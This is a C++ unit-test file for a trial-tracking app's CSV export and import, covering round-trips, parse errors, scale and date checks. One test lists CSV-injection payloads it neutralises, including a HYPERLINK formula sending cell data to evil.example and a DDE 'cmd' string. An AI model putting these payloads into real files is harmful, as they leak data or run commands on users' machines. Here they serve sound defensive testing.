#include "trialwise/trial/csv.hpp"

#include <gtest/gtest.h>

#include "trialwise/test_support/trial_maker.hpp"

namespace trialwise::trial {
namespace {

using test_support::shipped;

const pack::Outcome& gut() { return *shipped().find_outcome("gut_symptoms"); }

// The header before the other_product column: such files still import (the
// tests below that use it show that).
const char* kHeader =
    "date,outcome,doses_taken,dose_g,bloating,nausea,gas,belching,abdominal_discomfort,with_food,note,red_flags\n";
const char* kHeaderNow =
    "date,outcome,doses_taken,dose_g,bloating,nausea,gas,belching,abdominal_discomfort,with_food,note,red_flags,"
    "other_product\n";

TEST(CsvTest, ExportImportExportGivesTheSameBytes) {
  std::vector<model::DayEntry> entries(3);
  entries[0].date = *Date::parse("2026-12-08", "");
  entries[0].outcome = 6.5;
  entries[1].date = *Date::parse("2026-12-07", "");
  entries[1].outcome = 7;
  entries[1].doses_taken = 2;
  entries[1].dose_g = 5;
  entries[1].side_effects = {{"bloating", 2}, {"nausea", 0}};
  entries[1].with_food = true;
  entries[1].note = "felt \"ok\", mostly\nsecond line";
  entries[2].date = *Date::parse("2026-12-09", "");
  entries[2].outcome = 3;
  entries[2].red_flags = {"new_neuro_symptoms"};
  entries[2].other_product = true;
  const std::string first = to_csv(shipped(), entries);
  EXPECT_EQ(first.substr(0, std::string(kHeaderNow).size()), kHeaderNow);
  auto back = from_csv(shipped(), gut(), first);
  ASSERT_TRUE(back) << back.error().front().where << " " << back.error().front().message;
  ASSERT_EQ(back->size(), 3u);
  EXPECT_EQ((*back)[0].note, "felt \"ok\", mostly\nsecond line");
  EXPECT_EQ((*back)[0].side_effects.at("bloating"), 2);
  EXPECT_FALSE((*back)[1].doses_taken);
  EXPECT_EQ((*back)[2].red_flags, std::vector<std::string>{"new_neuro_symptoms"});
  EXPECT_TRUE((*back)[2].other_product);
  EXPECT_FALSE((*back)[1].other_product);
  EXPECT_EQ(to_csv(shipped(), *back), first);
}

// OWASP CSV injection: a note that a spreadsheet would run as a formula is
// written as text (a leading apostrophe), and read back as typed, so export,
// import, export gives the same bytes.
TEST(CsvTest, NotesThatLookLikeFormulasAreNeutralisedAndReadBackAsTyped) {
  const std::vector<std::string> hostile = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                                            "+cmd|'/C calc'!A0",
                                            "-2+3",
                                            "@SUM(A1:A2)",
                                            "\t=1+1",
                                            "\r=1+1",
                                            "'=already quoted",
                                            "'plain apostrophe",
                                            "fine = not at the start",
                                            "ünïcode ✓ <script>"};
  std::vector<model::DayEntry> entries;
  for (std::size_t i = 0; i < hostile.size(); ++i) {
    model::DayEntry e;
    e.date = Date::parse("2026-12-07", "")->plus_days(static_cast<int>(i));
    e.outcome = 5;
    e.note = hostile[i];
    entries.push_back(e);
  }
  const std::string text = to_csv(shipped(), entries);
  // No cell begins with a formula character: each such note starts with an apostrophe.
  for (const char* cell : {",\"'=HYPERLINK", ",'+cmd", ",'-2+3", ",'@SUM", ",'\t=1+1", ",\"'\r=1+1\"", ",''=already",
                           ",''plain", ",fine = not"})
    EXPECT_NE(text.find(cell), std::string::npos) << cell << "\n" << text;
  EXPECT_EQ(text.find(",=HYPERLINK"), std::string::npos);
  auto back = from_csv(shipped(), gut(), text);
  ASSERT_TRUE(back) << back.error().front().where << " " << back.error().front().message;
  for (std::size_t i = 0; i < hostile.size(); ++i) EXPECT_EQ((*back)[i].note, hostile[i]) << i;
  EXPECT_EQ(to_csv(shipped(), *back), text);
}

TEST(CsvTest, AcceptsCrlfAndNoFinalNewline) {
  const std::string text = std::string(kHeader).replace(std::string(kHeader).size() - 1, 1, "\r\n") +
                           "2026-12-07,5,2,5,1,,,,,false,,\r\n2026-12-08,4,,,,,,,,true,\"a, b\",";
  auto entries = from_csv(shipped(), gut(), text);
  ASSERT_TRUE(entries) << entries.error().front().message;
  ASSERT_EQ(entries->size(), 2u);
  EXPECT_EQ((*entries)[1].note, "a, b");
}

TEST(CsvTest, EveryBadFieldIsNamedByLineAndColumn) {
  const std::string text = std::string(kHeader) +
                           "2026-12-07,5,2,5,1,,,,,false,,\n"
                           "2026-02-30,11,x,,,,,,,maybe,,\n"
                           "2026-12-07,5,2,5,12,,,,,false,,headache\n"
                           "2026-12-09,5\n";
  auto r = from_csv(shipped(), gut(), text);
  ASSERT_FALSE(r);
  auto has = [&](const std::string& where, const std::string& words) {
    return std::any_of(r.error().begin(), r.error().end(),
                       [&](const Error& e) { return e.where == where && e.message.find(words) != std::string::npos; });
  };
  EXPECT_TRUE(has("line 3, column 1", "not a date"));
  EXPECT_TRUE(has("line 3, column 2", "outcome"));
  EXPECT_TRUE(has("line 3, column 3", "doses_taken"));
  EXPECT_TRUE(has("line 3, column 10", "with_food"));
  EXPECT_TRUE(has("line 4, column 1", "appears twice"));
  EXPECT_TRUE(has("line 4, column 5", "bloating"));
  EXPECT_TRUE(has("line 4, column 12", "headache"));
  EXPECT_TRUE(has("line 5, column 3", "expected 12 fields, found 2"));
}

// The outcome is read on the trial's own scale (a 1-5 one here): 6 and 0
// are named; the other_product column takes true or false.
TEST(CsvTest, OutcomesFollowTheTrialsScaleAndOtherProductIsChecked) {
  pack::Outcome five = gut();
  five.scale_min = 1;
  five.scale_max = 5;
  const std::string text = std::string(kHeaderNow) +
                           "2026-12-07,5,,,,,,,,false,,,true\n2026-12-08,6,,,,,,,,false,,,maybe\n"
                           "2026-12-09,0,,,,,,,,false,,,false\n";
  auto r = from_csv(shipped(), five, text);
  ASSERT_FALSE(r);
  ASSERT_EQ(r.error().size(), 3u);
  EXPECT_EQ(r.error()[0].where, "line 3, column 2");
  EXPECT_NE(r.error()[0].message.find("from 1 to 5"), std::string::npos) << r.error()[0].message;
  EXPECT_EQ(r.error()[1].where, "line 3, column 13");
  EXPECT_EQ(r.error()[2].where, "line 4, column 2");
}

TEST(CsvTest, DatesMustFallWithinTheTrial) {
  const std::string text = std::string(kHeader) +
                           "2026-12-06,5,,,,,,,,false,,\n2026-12-07,5,,,,,,,,false,,\n"
                           "2026-12-20,5,,,,,,,,false,,\n2026-12-21,5,,,,,,,,false,,\n";
  auto r = from_csv(shipped(), gut(), text, *Date::parse("2026-12-07", ""), *Date::parse("2026-12-20", ""));
  ASSERT_FALSE(r);
  ASSERT_EQ(r.error().size(), 2u);
  EXPECT_EQ(r.error()[0].where, "line 2, column 1");
  EXPECT_EQ(r.error()[1].where, "line 5, column 1");
}

TEST(CsvTest, HeaderMustMatch) {
  auto r = from_csv(shipped(), gut(), "date,outcome,doses,dose_g\n");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().front().where, "line 1, column 3");
  EXPECT_FALSE(from_csv(shipped(), gut(), ""));
  auto open_quote = from_csv(shipped(), gut(), std::string(kHeader) + "2026-12-07,5,,,,,,,,false,\"unclosed\n");
  ASSERT_FALSE(open_quote);
  EXPECT_NE(open_quote.error().front().message.find("never closed"), std::string::npos);
}

}  // namespace
}  // namespace trialwise::trial
